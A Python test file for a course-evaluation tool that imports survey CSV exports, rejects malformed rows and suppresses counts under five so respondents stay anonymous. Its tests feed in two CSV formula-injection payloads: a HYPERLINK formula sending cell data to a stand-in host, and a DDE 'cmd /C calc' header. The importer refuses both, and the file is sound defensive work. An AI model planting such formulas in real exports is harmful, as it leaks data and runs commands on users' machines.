"""Response exports in, suppressed aggregates out: bad rows named by line, no group under 5 published."""

from __future__ import annotations

import csv
import io
import random
import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml

from build_tools.core.pages import env as pages_env
from build_tools.core.settings import Settings
from build_tools.kinds.courses import results
from build_tools.kinds.courses.pages import pages as render_courses
from build_tools.pipeline import load_site
from tests.conftest import FIXTURES, ROOT, TODAY
from tests.test_courses import course_project


@pytest.fixture
def project(tmp_path: Path, small_orphanet: Path) -> tuple[Path, object]:
    root = course_project(tmp_path, small_orphanet, "course_valid")
    site = load_site(Settings(root=root), TODAY)
    return root, next(c for c in site.courses if c.slug == "vinterkurs")


def export(tmp_path: Path, name: str = "vinterkurs.csv", text: str | None = None) -> Path:
    path = tmp_path / "svar" / name
    path.parent.mkdir(exist_ok=True)
    if text is None:
        shutil.copy(FIXTURES / "responses" / name, path)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def test_bad_rows_are_named_by_line_and_skipped(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, problems = results.aggregate_responses(course, export(tmp_path), root)
    shown = [str(p).split(": ", 1)[1] for p in problems]
    assert shown == [
        "helhet: ugyldig svar 'elleve'; gyldige er 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 eller tomt; raden er hoppet over",
        "rolle: verdien '=HYPERLINK(\"http://x.example/?\"&A1)' ser ut som en regnearkformel; raden er hoppet over",
        "raden har 5 felt, men overskriften har 6; raden er hoppet over",
    ]
    assert [p.line for p in problems] == [6, 8, 9]  # the quoted answer over two lines counts as two
    assert all(p.severity == "warning" for p in problems)
    assert meta is not None and meta.respondenter == 6 and meta.hoppet_over == 3


def test_groups_under_five_are_suppressed_and_free_text_never_kept(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    by_id = {q.id: q for q in meta.spørsmål}
    assert "bra" not in by_id
    rolle = {c.verdi: c.antall for c in by_id["rolle"].fordeling}
    assert rolle == {"pasient": None, "parorende": None}  # 4 and 2: both hidden
    assert not hasattr(by_id["program_3"], "besvart")  # the number who answered is never kept
    for q in meta.spørsmål:
        for cell in q.fordeling or []:
            assert cell.antall is None or cell.antall == 0 or cell.antall >= 5
    written = results.write_aggregate(meta, root)
    assert "Fint" not in written.read_text(encoding="utf-8")


def test_a_small_cell_takes_others_with_it_and_one_is_always_hidden() -> None:
    # 10, 3, 7 and nobody skipped: the 3 alone would be the hidden total; the 7 goes with it (3 + 7 − 2 + 1 = 9 values each).
    assert results.protect([10, 3, 7], 0) == [10, None, None]
    # A 0 is shown and never hidden to protect: it adds nothing. The 6 goes instead.
    assert results.protect([10, 0, 2, 6], 0) == [10, 0, None, None]
    # Every count at least 5, and nobody or two skipped: the same cell is hidden either way, so what
    # is hidden says nothing about whether anybody skipped.
    assert results.protect([10, 20], 0) == results.protect([10, 20], 2) == [None, 20]
    # 1, 1, 1, 1, 1: nothing left to hide with them; the question is not published at all.
    assert results.protect([1, 1, 1, 1, 1], 0) is None


def test_wrong_columns_stop_the_import(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "feil.csv", "rolle,helhet,=cmd|' /C calc'!A0,anbefale\npasient,9,1,ja\n")
    meta, problems = results.aggregate_responses(course, path, root)
    assert meta is None
    assert str(problems[0]).endswith(
        "feil.csv:1: ukjente kolonner: \"=cmd|' /C calc'!A0\"; mangler kolonnene: program_1, program_3, bra; "
        "overskriften må ha nøyaktig spørsmålenes id-er i skjemaet «standard» versjon 1: rolle, helhet, program_1, program_3, anbefale, bra"
    )


def test_an_export_inside_the_repository_is_refused(project) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    inside = root / "svar.csv"
    shutil.copy(FIXTURES / "responses/vinterkurs.csv", inside)
    meta, problems = results.aggregate_responses(course, inside, root)
    assert meta is None and "ligger inne i depotet" in problems[0].message


def test_results_page_with_fewer_than_five_shows_no_numbers(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    path = export(tmp_path, "fa.csv", "rolle,helhet,program_1,program_3,anbefale,bra\n" + "pasient,9,5,5,ja,\n" * 4)
    meta, problems = results.aggregate_responses(course, path, root)
    assert problems == [] and meta.respondenter is None and meta.spørsmål == []
    results.write_aggregate(meta, root)
    settings = Settings(root=root)
    pages = render_courses(load_site(settings, date(2027, 2, 1)), settings, date(2027, 2, 1))
    page = pages["kurs/vinterkurs/resultater/index.md"].decode("utf-8").split("---\n", 2)[2]
    assert "For få deltakere svarte" in page
    assert "<svg" not in page and "<table" not in page and "4" not in page.replace("(20. januar 2027)", "")


def test_a_hand_edited_small_count_cannot_be_published(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    path = results.write_aggregate(meta, root)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["spørsmål"][0]["fordeling"][0]["antall"] = 3
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _, problems = results.read_results(root)
    assert any("færre enn 5 svar kan ikke publiseres" in p.message for p in problems)


def test_published_csv_neutralises_formulas() -> None:
    assert results.csv_safe('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    assert results.csv_safe("@SUM(A1)") == "'@SUM(A1)" and results.csv_safe("Bra") == "Bra"


# --- no hidden count can be narrowed to fewer than five values (issue 20, point 6) ---------------


def possible(cells: list[int | None], respondents: int, floor: int = 1) -> list[set[int]]:
    """Brute force, independent of results.py: every raw count vector (each answer's count and the
    number who skipped) that fits what is published: the shown cells exactly, non-negative counts
    adding up to the respondents, and each hidden cell at least `floor` (a reader who knows zeros
    are always shown knows a hidden cell is at least 1). Returns the values each hidden count (the
    hidden cells in order, then the skipped count, which is never published) takes over all of them.
    Stops early once every hidden count has MIN_GROUP values: that is all the test needs to know."""
    hidden = [i for i, c in enumerate(cells) if c is None]
    total = respondents - sum(c for c in cells if c is not None)
    seen: list[set[int]] = [set() for _ in range(len(hidden) + 1)]
    lows = [floor] * len(hidden) + [0]

    def done() -> bool:
        return all(len(s) >= results.MIN_GROUP for s in seen)

    def fill(k: int, left: int, acc: list[int]) -> bool:
        if k == len(lows) - 1:
            if left < lows[k]:
                return False
            for s, x in zip(seen, [*acc, left], strict=True):
                s.add(x)
            return done()
        return any(fill(k + 1, left - x, [*acc, x]) for x in range(lows[k], left + 1))

    if total >= 0:
        fill(0, total, [])
    return seen


def narrowed(cells: list[int | None], respondents: int) -> list[str]:
    """Hidden counts a reader can narrow to fewer than MIN_GROUP values, worded for a failing test."""
    hidden = [i for i, c in enumerate(cells) if c is None]
    names = [f"cell {i}" for i in hidden] + ["skipped"]
    return [f"{name}: {sorted(values)}" for name, values in zip(names, possible(cells, respondents), strict=True) if len(values) < results.MIN_GROUP]


def test_the_brute_force_finds_what_the_old_rules_gave_away() -> None:
    # Before issue 13: [10, 0, 2, 6] published as [10, None, None, 6] with 18 answering; the two hidden cells are 2 together.
    assert narrowed([10, 0, None, 6], 18) == ["cell 2: [1, 2]", "skipped: [0, 1]"]
    # Before issue 20: every answer shown and the answered count hidden; 31 − 15 − 13 = 3 skipped, exactly.
    assert narrowed([15, 13], 31) == ["skipped: [3]"]
    # Two hidden cells with a hidden total of 6: each of them is 1–5, the skipped count 0–4.
    assert narrowed([15, None, None], 21) == []
    assert narrowed([15, None, None], 19) == ["cell 1: [1, 2, 3]", "cell 2: [1, 2, 3]", "skipped: [0, 1, 2]"]


def test_no_hidden_count_in_the_published_results_has_fewer_than_five_values() -> None:
    """Every results page and CSV of the real content (the PKU day and the others), checked by brute force."""
    settings = Settings(root=ROOT)
    site = load_site(settings, TODAY)
    checked = hidden = 0
    for course in site.courses:
        if course.result is None or course.result.meta.respondenter is None:
            continue
        columns = {c.id: c for c in course.form.columns(course)}
        text = results.results_csv(course).decode("utf-8")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert "besvart" not in text.splitlines()[0] and "gjennomsnitt" not in text.splitlines()[0]
        page = results.render_results_page(pages_env(), course)
        respondents = course.result.meta.respondenter
        assert f"{respondents} deltakere svarte på evalueringen" in page
        for q in course.result.meta.spørsmål:
            published = [r for r in rows if r["sporsmal_id"] == q.id]
            if q.fordeling is None:
                assert published == []
                continue
            cells = [int(r["antall"]) if r["antall"] else None for r in published]
            assert [r["svar"] for r in published] == list(columns[q.id].values)
            assert {r["respondenter"] for r in published} == {str(respondents)}
            assert narrowed(cells, respondents) == [], (course.slug, q.id, cells, respondents)
            checked += 1
            hidden += cells.count(None)
        # The page says no more than the CSV: no answered count, no share, no mean.
        assert "svarte er" not in page and " %" not in page and "gjennomsnitt " not in page
    assert checked >= 10 and hidden >= checked


def test_every_published_question_hides_at_least_one_count() -> None:
    """Whether anybody skipped is never shown by what is hidden: a question with every count shown
    would give the skipped count away, so none is published that way."""
    for path in (ROOT / results.RESULTS_DIR).glob("*.yml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for q in data.get("spørsmål") or []:
            assert set(q) == {"id", "fordeling"}, (path.name, q)
            if q["fordeling"] is not None:
                assert any(c["antall"] is None for c in q["fordeling"]), (path.name, q["id"])


@pytest.mark.parametrize("seed", range(20))
def test_protection_of_random_questions_narrows_nothing(seed: int) -> None:
    rng = random.Random(1000 + seed)
    for _ in range(100):
        counts = [rng.choice([0, 0, 1, 2, 3, 4, 5, 6, 9, 14]) for _ in range(rng.randint(2, 6))]
        skipped = rng.choice([0, 0, 1, 2, 3, 4, 5, 7])
        if sum(counts) < results.MIN_GROUP:
            continue
        cells = results.protect(counts, skipped)
        if cells is None:
            continue
        assert all(c is None or c == n for c, n in zip(cells, counts, strict=True))
        assert all(c is None for c, n in zip(cells, counts, strict=True) if 0 < n < results.MIN_GROUP)
        assert narrowed(cells, sum(counts) + skipped) == [], (counts, skipped)


def test_a_hand_edited_file_that_narrows_a_count_is_refused() -> None:
    base = {"kurs": "k", "skjema": "s", "skjemaversjon": 1, "respondenter": 18}
    two_hidden_small = {"id": "q", "fordeling": [{"verdi": "a", "antall": 10}, {"verdi": "b", "antall": None}, {"verdi": "c", "antall": None}, {"verdi": "d", "antall": 6}]}
    with pytest.raises(ValueError, match="computable"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [two_hidden_small]})
    every_count_shown = {"id": "q", "fordeling": [{"verdi": "a", "antall": 10}, {"verdi": "b", "antall": 8}]}
    with pytest.raises(ValueError, match="computable"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [every_count_shown]})
    with pytest.raises(ValueError, match="ukjent felt|extra"):
        results.AggregateMeta.model_validate({**base, "spørsmål": [{**every_count_shown, "besvart": 18}]})
    protected = {"id": "q", "fordeling": [{"verdi": "a", "antall": 10}, {"verdi": "b", "antall": None}]}
    assert results.AggregateMeta.model_validate({**base, "spørsmål": [protected]}).spørsmål[0].fordeling is not None


def test_a_small_number_of_unreadable_rows_is_not_published(project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root, course = project
    meta, _ = results.aggregate_responses(course, export(tmp_path), root)
    assert meta.hoppet_over == 3
    results.write_aggregate(meta, root)
    settings = Settings(root=root)
    pages = render_courses(load_site(settings, date(2027, 2, 1)), settings, date(2027, 2, 1))
    page = pages["kurs/vinterkurs/resultater/index.md"].decode("utf-8")
    assert "Noen få svar kunne ikke leses" in page and "3 svar kunne ikke leses" not in page
